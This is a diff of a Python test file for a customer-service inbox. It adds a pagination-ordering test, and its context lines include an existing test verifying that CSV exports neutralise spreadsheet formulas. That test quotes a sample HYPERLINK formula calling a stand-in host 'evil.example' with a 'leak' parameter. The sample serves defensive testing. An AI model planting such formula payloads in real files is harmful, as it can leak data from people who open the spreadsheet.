@@ -188,3 +188,22 @@ def test_a_formula_in_a_ticket_is_exported_as_text(services: AppServices) -> Non
     rows = list(csv.reader(io.StringIO(services.inbox.customer_service.export_tickets_csv().lstrip("\ufeff"))))
     assert rows[1][rows[0].index("note")] == "'=HYPERLINK(\"http://evil.example/?leak\",\"点我\")"
     assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_pages_read_the_list_a_screen_at_a_time_in_the_same_order_as_ids(services: AppServices) -> None:
+    triage = services.inbox.triage
+    texts = [f"请问星河纯牛奶保质期多久 {n}" for n in range(23)] + ["买的酸奶过期了要求退款"] * 4
+    # Some share a moment, so the id breaks ties in every order.
+    store_interactions(services, [fan_comment(100 + n, t, T0 + timedelta(minutes=n // 3)) for n, t in enumerate(texts)])
+    triage.ingest()
+    for q in (InboxQuery(sort="created_at", descending=True), InboxQuery(sort="priority"),
+              InboxQuery(sort="due_at", descending=True), InboxQuery(text="退款", sort="created_at")):
+        every = triage.ids(q)
+        pages = triage.pages(q)
+        read = [i.id for start in range(0, len(every), 5) for i in pages.rows(start, 5)]
+        assert read == every
+        assert pages.count() == len(every)
+        # A jump to the end reads from the far end and still lands on the same rows.
+        fresh = triage.pages(q)
+        fresh.count()
+        assert [i.id for i in fresh.rows(len(every) - 5, 5)] == every[-5:]
